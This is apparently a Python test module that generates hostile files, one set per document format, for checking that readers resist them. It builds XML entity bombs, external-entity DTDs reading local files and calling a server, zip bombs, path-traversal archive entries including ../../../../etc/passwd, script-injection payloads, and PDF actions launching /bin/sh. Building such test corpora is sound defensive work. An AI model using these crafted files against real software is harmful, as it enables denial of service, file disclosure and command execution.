"""Attacks made by hand for each format: deep nesting, bombs, macros, scripts, references to other files and hosts."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial

from hostile import pairs, presentations
from hostile.dress import (
    PARTS,
    drawn,
    mail,
    opendocument,
    outlook,
    page,
    part,
    pdf,
    raw,
    repacked,
    stream,
    web_page,
    word,
)

Make = Callable[[], bytes]
Attack = Callable[[str, str], Iterator[tuple[str, Make]]]

_TEXT = "La ministre a présenté son plan mardi à Paris devant la presse. " * 8
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_BOMB = f'<!DOCTYPE a [<!ENTITY l0 "ha ha ha">{_LAUGHS}]>'
_LONG_ENTITY = f'<!DOCTYPE a [<!ENTITY x "{"ha " * 100_000}">]>'
_SCRIPT = "<script>document.write('LU'+'RED')</script><svg onload=alert(1)></svg><a href='javascript:alert(1)'>ici</a>"
_DEEP = 100_000


def crafted(reader: str, lure: str, address: str) -> Iterator[tuple[str, Make]]:
    """Yield the name of each attack for a reader, with a function that makes its file.

    `lure` is the path of a file and `address` that of a server, which no reader may touch.
    """
    attacks: dict[str, Attack] = {
        "txt": _txt,
        "md": _md,
        "html": _html,
        "mhtml": _mhtml,
        "eml": _eml,
        "msg": _msg,
        "rtf": _rtf,
        "docx": _docx,
        "pptx": _pptx,
        "odt": _odt,
        "odp": _odp,
        "epub": _epub,
        "pdf": _pdf,
        "srt": pairs.srt,
        "vtt": pairs.vtt,
        "tmx": partial(_with_dtds, pairs.tmx),
        "xliff": partial(_with_dtds, pairs.xliff),
    }
    yield from attacks[reader](lure, address)


def _with_dtds(attack: Attack, lure: str, address: str) -> Iterator[tuple[str, Make]]:
    return attack(_outside(lure, address), _BOMB)


def _outside(lure: str, address: str) -> str:
    """Return a DTD that refers to the outside by every kind of entity."""
    file = f'SYSTEM "file://{lure}"'
    return f'<!DOCTYPE a {file} [<!ENTITY x {file}><!ENTITY y SYSTEM "{address}/y"><!ENTITY % z {file}> %z;]>'


def _links(lure: str, address: str) -> str:
    shown = "".join(
        f'<img src="{to}"><iframe src="{to}"></iframe><object data="{to}"></object><video src="{to}"></video>'
        for to in (f"file://{lure}", f"{address}/a", lure)
    )
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{lure}" parse="text"/>'
    return f"{shown}<p>{_TEXT}</p>{include}"


def _head(lure: str, address: str) -> str:
    return (
        f'<base href="{address}/"><link rel="stylesheet" href="file://{lure}"><link rel="canonical" href="{address}/c">'
        f'<meta http-equiv="refresh" content="0;url={address}/r"><script src="{address}/s.js"></script>'
    )


def _txt(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    yield "nested deep", lambda: raw("(" * _DEEP + "a" + ")" * _DEEP)
    yield "references", lambda: raw(f"file://{lure} {address}/a \\\\host\\share\n" * 1000)
    yield "dots", lambda: raw(". " * 2_000_000)
    yield "hyphens", lambda: raw("a-\n" * 200_000)


def _md(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    deep = {"quotes": "> ", "brackets": "[", "stars": "*a **a ", "ticks": "`a``", "images": "![", "lists": "- "}
    for name, sign in deep.items():
        yield f"nested deep, {name}", partial(raw, f"# Bilan\n\n{sign * 20_000}a\n")
    yield "nested deep, steps", lambda: raw("".join(f"{'  ' * n}- a\n" for n in range(1000)))
    yield "references", lambda: raw(f"# Bilan\n\n![a](file://{lure}) [b]({address}/a) <{address}/b>\n\n{_TEXT}")
    yield "references without end", lambda: raw("".join(f"[a{n}]: b\n" for n in range(50_000)) + "[a1]" * 50_000)
    yield "script", lambda: raw(f"# Bilan\n\n{_SCRIPT}\n\n{_TEXT}")
    yield "table", lambda: raw("|" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "|a" * 20_000)


def _pages(lure: str, address: str) -> Iterator[tuple[str, str]]:
    yield "nested deep, divs", page("<div>" * _DEEP + _TEXT)
    yield "nested deep, bold", page("<b><p>" * 20_000 + _TEXT)
    yield "nested deep, tables", page("<table><tr><td>" * 5000 + _TEXT)
    yield "script", page(f"{_SCRIPT}<p>{_TEXT}</p>", "<script>while(1);</script>")
    yield "references", page(_links(lure, address), _head(lure, address))
    yield "entities", page(f"<p>&l11; {_TEXT}</p>", start=f"<?xml version='1.0'?>{_BOMB}")
    yield "entities outside", page(f"<p>&x;&y; {_TEXT}</p>", start=f"<?xml version='1.0'?>{_outside(lure, address)}")
    yield "attributes", page(f"<p {' '.join(f'a{n}=b' for n in range(200_000))}>{_TEXT}</p>")
    yield "open tags", page("<a " * 300_000 + _TEXT)
    yield "open comment", page(f"<p>{_TEXT}</p><!--" + "<!-- " * 200_000)
    yield "signs", page(f"<p>{'&amp;&lt;&#65;' * 500_000}</p>")


def _html(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    for name, text in _pages(lure, address):
        yield name, partial(raw, text)


def _mhtml(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    for name, text in _pages(lure, address):
        yield name, partial(web_page, raw(text))
    yield "parts", lambda: web_page(b"--x\nContent-Type: text/html\n\n<p>a</p>\n" * 200_000)
    yield "nested parts", lambda: web_page(raw(page(_TEXT)) + b"\n" + _multiparts("related"))


def _eml(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    for name, text in _pages(lure, address):
        yield name, partial(mail, raw(text), "text/html; charset=utf-8")
    yield "nested parts", lambda: mail(_multiparts("mixed"), 'multipart/mixed; boundary="b0"')
    outside = f'message/external-body; access-type=local-file; name="{lure}"'
    yield "body outside", lambda: mail(raw(f"Content-Type: text/plain\n\n{_TEXT}"), outside)
    yield "mails in mails", lambda: mail(b"Content-Type: message/rfc822\n\n" * 5000 + b"a", "message/rfc822")
    yield "head", lambda: b"Subject: " + b"=?utf-8?q?a?= " * 500_000 + b"\nFrom: a\nTo: b\n\n" + raw(_TEXT)
    yield "from", lambda: b"From: " + b"(" * 500_000 + b"\nTo: b\nSubject: c\n\n" + raw(_TEXT)
    yield "quotations", lambda: mail(raw("> " * 2_000_000 + _TEXT))
    yield "answered", lambda: mail(raw("De : a\n" * 100_000 + _TEXT))
    macros = (
        b"Content-Type: application/x; name=a.docm\nContent-Disposition: attachment; filename=../../a.docm\n\nPK\3\4"
    )
    yield (
        "macros",
        lambda: mail(b"--x\n\n" + raw(_TEXT) + b"\n--x\n" + macros + b"\n--x--\n", "multipart/mixed; boundary=x"),
    )


def _msg(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    for name, text in _pages(lure, address):
        yield name, partial(outlook, b"", raw(text))
    yield "packed without end", lambda: outlook(b"", rtf=b"\0" * 8 + b"LZFu" + b"\0" * 4 + b"\xff\x00\x0f" * 2_000_000)
    yield "nested deep, RTF", lambda: outlook(b"", rtf=b"\0\0\0\0\xff\xff\xff\0MELA\0\0\0\0{\\rtf1 " + b"{" * _DEEP)


def _multiparts(kind: str) -> bytes:
    return b"".join(
        b'--b%d\nContent-Type: multipart/%s; boundary="b%d"\n\n' % (n, kind.encode(), n + 1) for n in range(3000)
    )


def _rtf(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    text = _TEXT.encode("ascii", "replace")
    field = '{\\field{\\*\\fldinst{%s "%s"}}{\\fldrslt{a}}}'
    yield "nested deep", lambda: b"{\\rtf1 " + b"{" * _DEEP + text + b"}" * _DEEP + b"}"
    fields = "".join(
        field % (name, to) for name in ("INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO") for to in (lure, address)
    )
    yield "references", lambda: raw(f"{{\\rtf1{{\\*\\template {lure}}}{fields} ") + text + b"}"
    yield (
        "macros",
        lambda: (
            b"{\\rtf1{\\object\\objemb{\\*\\objclass Word.Document}{\\*\\objdata "
            + b"d0cf11e0" * 99_999
            + b"}}"
            + text
            + b"}"
        ),
    )
    yield "script", lambda: raw(f"{{\\rtf1 {_SCRIPT} ") + text + b"}"
    yield "binary", lambda: b"{\\rtf1 \\bin2000000000 " + text + b"}"
    yield "binary less than none", lambda: b"{\\rtf1 \\bin-5 " + text + b"}"
    yield "numbers", lambda: b"{\\rtf1\\uc9999999999\\f-999999999\\li9999999999\\ilvl9999\\u99999999?" + text + b"}"
    yield (
        "styles",
        lambda: (
            b"{\\rtf1{\\stylesheet"
            + b"".join(b"{\\s%d\\sbasedon%d a;}" % (n, n + 1) for n in range(50_000))
            + b"{\\s50000\\sbasedon0 b;}}"
            + text
            + b"}"
        ),
    )
    yield "table", lambda: b"{\\rtf1 " + b"\\trowd\\intbl a\\cell\\row" * 50_000 + text + b"}"


def _zips(reader: str) -> Iterator[tuple[str, Make]]:
    """Yield the attacks on zip archives."""
    name = PARTS[reader]
    yield "zip bomb", lambda: repacked(reader, {name: b" " * 400_000_000})
    yield "zip bomb that lies", lambda: _lying(reader, name, 400_000_000)
    yield "zip of many", lambda: repacked(reader, {f"a{n}.xml": b"<a/>" for n in range(50_000)})
    yield "zip of two names", lambda: _twice(reader, name)
    yield "zip without the text", lambda: _without(reader, name)
    yield "zip up the folders", lambda: repacked(reader, {"../../../tmp/lured.xml": b"<a/>", "/etc/lured.xml": b"<a/>"})
    yield "not XML", lambda: repacked(reader, {name: b"\0\xff" * 1000})


def _lying(reader: str, name: str, size: int) -> bytes:
    """Return an archive with a file that declares a much too small size."""
    made = repacked(reader, {name: b" " * size})
    return made.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def _twice(reader: str, name: str) -> bytes:
    made = io.BytesIO(repacked(reader, {}))
    with zipfile.ZipFile(made, "a") as archive:
        archive.filelist.append(archive.getinfo(name))
        archive._didModify = True  # type: ignore[attr-defined]
    return made.getvalue()


def _without(reader: str, name: str) -> bytes:
    return repacked(reader, {}).replace(name.encode(), b"x" * len(name))


def _docx(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    yield from _zips("docx")
    words = f"<w:p><w:r><w:t>{_TEXT}</w:t></w:r></w:p>"
    yield "nested deep", lambda: word("<w:sdt><w:sdtContent>" * _DEEP + words)
    yield "nested tables", lambda: word("<w:tbl><w:tr><w:tc>" * 80 + words + "</w:tc></w:tr></w:tbl>" * 80)
    yield "entities", lambda: word("<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>", _BOMB)
    yield "long entity", lambda: word("<w:p><w:r><w:t>" + "&x;" * 10_000 + "</w:t></w:r></w:p>", _LONG_ENTITY)
    yield "entities outside", lambda: word("<w:p><w:r><w:t>&x;&y;</w:t></w:r></w:p>", _outside(lure, address))
    types, rels = "[Content_Types].xml", "word/_rels/document.xml.rels"
    plain, macros = b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml"
    enabled = part("docx", types).replace(
        b"application/vnd.openxmlformats-officedocument." + plain, b"application/vnd.ms-word.document." + macros
    )
    yield "macros", lambda: repacked("docx", {types: enabled, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 9999})
    yield "macros hidden", lambda: repacked("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 9999})
    kinds = ("attachedTemplate", "image", "subDocument", "footnotes", "styles", "oleObject", "frame", "aFChunk")
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    out = "".join(
        f'<Relationship Id="x{n}" Type="{base}/{kind}" Target="{to}" TargetMode="External"/>'
        for kind in kinds
        for n, to in enumerate((f"file://{lure}", f"{address}/a"), hash(kind) % 10_000)
    )
    yield (
        "references",
        lambda: repacked(
            "docx", {rels: part("docx", rels).replace(b"</Relationships>", raw(out + "</Relationships>"))}
        ),
    )
    gone = raw(f'<Relationship Id="y" Type="{base}/styles" Target="../../../../etc/passwd"/></Relationships>')
    yield "references up", lambda: repacked("docx", {rels: part("docx", rels).replace(b"</Relationships>", gone)})
    yield "script", lambda: word(words.replace("La ministre", "&lt;script&gt;alert(1)&lt;/script&gt;"))
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="a{n}"><w:basedOn w:val="a{(n + 1) % 9}"/></w:style>' for n in range(9)
    )
    looped = part("docx", "word/styles.xml").replace(b"</w:styles>", raw(styles + "</w:styles>"))
    yield "styles in a ring", lambda: repacked("docx", {"word/styles.xml": looped})
    yield (
        "spans",
        lambda: word(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>' + words + "</w:tc></w:tr></w:tbl>"
        ),
    )


def _odt(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    yield from _zips("odt")
    words = f"<text:p>{_TEXT}</text:p>"
    link = f'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file://{lure}"'
    yield "nested deep", lambda: opendocument("<text:section>" * _DEEP + words)
    yield (
        "nested lists",
        lambda: opendocument("<text:list><text:list-item>" * 100 + words + "</text:list-item></text:list>" * 100),
    )
    yield "entities", lambda: opendocument("<text:p>&l11;</text:p>", _BOMB)
    yield "long entity", lambda: opendocument("<text:p>" + "&x;" * 10_000 + "</text:p>", _LONG_ENTITY)
    yield "entities outside", lambda: opendocument("<text:p>&x;&y;</text:p>", _outside(lure, address))
    yield "spaces", lambda: opendocument('<text:p>a<text:s text:c="2000000000"/>b</text:p>' * 10)
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    cell = f'<t:table-cell t:number-columns-repeated="1000000">{words}</t:table-cell>'
    rows = f'<t:table-row t:number-rows-repeated="1000000">{cell}</t:table-row>'
    yield "cells repeated", lambda: opendocument(f'<t:table xmlns:t="{table}">{rows}</t:table>')
    yield (
        "references",
        lambda: opendocument(
            f"<text:section><text:section-source {link}/></text:section><text:p><text:a {link}/></text:p>{words}"
        ),
    )
    yield "macros", lambda: repacked("odt", {"Basic/Standard/Module1.xml": b"<a>Sub Main: Shell(1): End Sub</a>"})
    yield "script", lambda: opendocument(f"<text:p><text:script>alert(1)</text:script>{_TEXT}</text:p>")


def _pptx(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    yield from _zips("pptx")
    yield from presentations.pptx(_outside(lure, address), _BOMB, lure, address)


def _odp(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    yield from _zips("odp")
    yield from presentations.odp(_outside(lure, address), _BOMB, lure, address)


def _epub(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    yield from _zips("epub")
    yield from ((name, partial(repacked, "epub", {PARTS["epub"]: raw(text)})) for name, text in _pages(lure, address))
    yield (
        "entities of the package",
        lambda: repacked("epub", {"EPUB/content.opf": raw(f"<?xml version='1.0'?>{_BOMB}<package>&l11;</package>")}),
    )
    outside = raw(f"<?xml version='1.0'?>{_outside(lure, address)}<package>&x;&y;</package>")
    yield "entities outside of the package", lambda: repacked("epub", {"EPUB/content.opf": outside})
    up = part("epub", "EPUB/content.opf").replace(b"text/ch001.xhtml", raw(f"../../../..{lure}"))
    yield "references up", lambda: repacked("epub", {"EPUB/content.opf": up})
    spine = part("epub", "EPUB/content.opf").replace(
        b"<itemref", b'<itemref idref="ch001_xhtml"/>' * 20_000 + b"<itemref", 1
    )
    yield "a chapter without end", lambda: repacked("epub", {"EPUB/content.opf": spine})
    yield "nested deep, package", lambda: repacked("epub", {"EPUB/content.opf": b"<a>" * _DEEP})


def _pdf(lure: str, address: str) -> Iterator[tuple[str, Make]]:
    shown = b"BT /F 12 Tf 50 750 Td (La ministre a parle mardi.) Tj ET "
    yield "inflates to 1 GB", lambda: pdf(b"").replace(stream(b""), stream_of(1000), 1)
    yield "inflates to 1 GB of text", lambda: pdf(b"").replace(stream(b""), stream_of(1000, shown), 1)
    twice = zlib.compress(zlib.compress(b" " * 200_000_000))
    yield "inflates twice", lambda: pdf(b"").replace(stream(b""), stream(twice, "[/FlateDecode /FlateDecode]"), 1)
    yield "nested deep", lambda: pdf(shown, catalog="/A " + "[" * _DEEP + "]" * _DEEP)
    yield "nested deep, drawn", lambda: pdf(b"q " * 500_000 + shown)
    yield "nested deep, marked", lambda: pdf(b"/P <</A " + b"[" * 50_000 + b"]" * 50_000 + b">> BDC " + shown)
    form = "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 7 0 R >> >>"
    looped = raw(form) + b" /Length 11 >>\nstream\n/X Do /X Do\nendstream"
    yield (
        "a form within itself",
        lambda: pdf(
            shown + b"/X Do", page="/Resources << /Font << /F 5 0 R >> /XObject << /X 7 0 R >> >>", more=[looped]
        ),
    )
    yield (
        "a laughing form",
        lambda: pdf(
            shown + b"/X Do",
            page="/Resources << /Font << /F 5 0 R >> /XObject << /X 7 0 R >> >>",
            more=_laughing(shown),
        ),
    )
    yield "pages in a ring", lambda: pdf(shown).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")
    yield "pages without number", lambda: pdf(shown).replace(b"/Count 1 ", b"/Count 2000000000 ")
    yield (
        "pages alike",
        lambda: pdf(shown).replace(b"/Kids [3 0 R] /Count 1", b"/Kids [%s] /Count 20000" % (b"3 0 R " * 20_000)),
    )
    yield "an xref to itself", lambda: pdf(shown).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")
    yield "letters", lambda: drawn("\n".join(["abcdefghij" * 10] * 20_000))
    yield "letters on each other", lambda: pdf(b"BT /F 12 Tf 50 750 Td " + b"(a) Tj -7 0 Td " * 300_000 + b"ET")
    yield "lines far off", lambda: pdf(b"BT /F 1e30 Tf 1e30 -1e30 Td (Loin) Tj /F 0 Tf (a) Tj ET " + shown)
    yield (
        "turned",
        lambda: pdf(
            b"".join(b"BT /F 12 Tf 0.7 %d.1 -0.7 0.7 300 300 Tm (a) Tj ET " % n for n in range(50_000)) + shown
        ),
    )
    yield "script", lambda: pdf(shown, catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    yield (
        "macros",
        lambda: pdf(shown, catalog="/OpenAction << /S /Launch /F (/bin/sh) >> /AA << /WC << /S /Launch /F (a) >> >>"),
    )
    go = f"/OpenAction << /S /GoToR /F ({lure}) /D [0] >> /URI << /Base ({address}) >>"
    yield "references", lambda: pdf(shown, catalog=go, page=f"/AA << /O << /S /URI /URI ({address}/o) >> >>")
    outside = raw(f"<< /Length 0 /F ({lure}) /FFilter /FlateDecode >>\nstream\n\nendstream")
    yield "a stream outside", lambda: pdf(b"").replace(stream(b""), outside, 1)


def stream_of(megabytes: int, text: bytes = b" ") -> bytes:
    """Return a compressed PDF stream that repeats a text up to a size."""
    packer = zlib.compressobj()
    chunk = text * (1_000_000 // len(text))
    packed = b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)


def _laughing(shown: bytes) -> Iterator[bytes]:
    """Yield PDF forms, each of which draws the next one ten times."""
    for number in range(8, 18):
        resources = f"/Resources << /Font << /F 5 0 R >> /XObject << /X {number} 0 R >> >>"
        content = b"/X Do " * 10 if number < 17 else shown
        head = f"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] {resources} /Length {len(content)} >>"
        yield raw(head) + b"\nstream\n" + content + b"\nendstream"
